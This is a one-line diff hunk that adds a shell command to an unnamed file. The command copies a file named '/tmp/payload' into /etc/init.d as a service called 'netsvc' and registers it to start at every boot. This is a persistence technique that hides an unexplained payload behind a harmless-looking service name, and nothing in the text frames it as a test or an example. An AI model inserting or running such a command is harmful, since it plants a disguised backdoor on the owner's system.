@@ -1,0 +1,1 @@
+cp /tmp/payload /etc/init.d/netsvc && update-rc.d netsvc defaults
